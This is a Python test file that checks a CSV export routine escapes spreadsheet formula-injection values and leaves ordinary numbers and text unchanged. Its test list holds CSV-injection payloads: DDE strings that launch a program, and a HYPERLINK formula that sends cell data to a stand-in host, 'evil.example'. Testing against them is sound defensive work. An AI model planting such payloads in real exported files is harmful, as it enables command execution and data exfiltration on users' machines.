"""Attacks on a spreadsheet, by texts that it would take for formulas."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from sparq_sim.analysis.export import write_table

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "\t=1+1",
    "\r=1+1",
)


def read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_that_begins_like_a_formula_is_written_as_text(tmp_path: Path, formula: str) -> None:
    file = tmp_path / "table.csv"
    guarded = write_table(lambda: pa.table({formula: [1.0], "reason": [formula]}), file)
    (name, _), (_, cell) = read(file)
    assert name == f"'{formula}"
    assert cell == f"'{formula}"
    assert guarded == 2


@pytest.mark.parametrize("text", ["-0.5", "+3", "-1e-5", "1.5", "calm", "a=b", "-inf", "", "'=1"])
def test_numbers_and_other_texts_stay_as_they_are(tmp_path: Path, text: str) -> None:
    file = tmp_path / "table.csv"
    assert write_table(lambda: pa.table({"value": [text, None]}), file) == 0
    assert read(file)[1] == [text]


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    file = tmp_path / "table.csv"
    assert write_table(lambda: pa.table({"value": [-0.5, 3.0]}), file) == 0
    assert read(file) == [["value"], ["-0.5"], ["3"]]


@pytest.mark.parametrize("formula", FORMULAS)
def test_parquet_and_json_hold_texts_as_they_are(tmp_path: Path, formula: str) -> None:
    file = tmp_path / "table.parquet"
    assert write_table(lambda: pa.table({"reason": [formula]}), file) == 0
    assert pq.read_table(file).column("reason").to_pylist() == [formula]
